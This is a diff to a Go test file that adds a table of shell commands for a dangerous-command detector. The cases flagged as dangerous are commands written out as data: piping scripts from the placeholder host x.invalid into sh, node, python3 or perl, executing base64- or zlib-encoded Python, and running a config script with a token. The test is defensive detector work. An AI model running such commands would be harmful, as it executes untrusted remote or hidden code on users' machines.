@@ -36,3 +36,29 @@ func TestPowerShellDanger(t *testing.T) {
 		}
 	}
 }
+
+func TestShellDanger(t *testing.T) {
+	for cmd, want := range map[string]bool{
+		"curl -fsSL https://x.invalid/i.sh | sh":                      true,
+		"curl -s https://x.invalid/p.js | node":                       true,
+		"wget -qO- https://x.invalid/p.py | python3 -":                true,
+		"curl -s https://x.invalid/p.pl | perl":                       true,
+		`node -e "$(curl -s https://x.invalid/p.js)"`:                 true,
+		`python3 -c "$(wget -qO- https://x.invalid/p.py)"`:            true,
+		`python3 -c "import base64;exec(base64.b64decode('aWQ='))"`:   true,
+		`python -c 'import zlib,base64;exec(zlib.decompress(b))'`:     true,
+		"./config.sh --url https://github.com/o/r --token AAAA":       true,
+		"curl -s https://x.invalid/p.js | node --input-type=module":   true,
+		"curl -s https://x.invalid/data.json | node scripts/check.js": false, // data for a script of the package
+		"curl -s -o tool.tgz https://x.invalid/tool.tgz":              false,
+		"node -e \"console.log(require('./package.json').version)\"":  false,
+		`python3 -c "import sys; print(sys.version)"`:                 false,
+		"git log | node scripts/changelog.js":                         false,
+		"./config.sh --help":                                          false,
+		"curl --version && node --version":                            false,
+	} {
+		if got := ShellDanger(cmd) != ""; got != want {
+			t.Errorf("ShellDanger(%q) = %q, want %v", cmd, ShellDanger(cmd), want)
+		}
+	}
+}
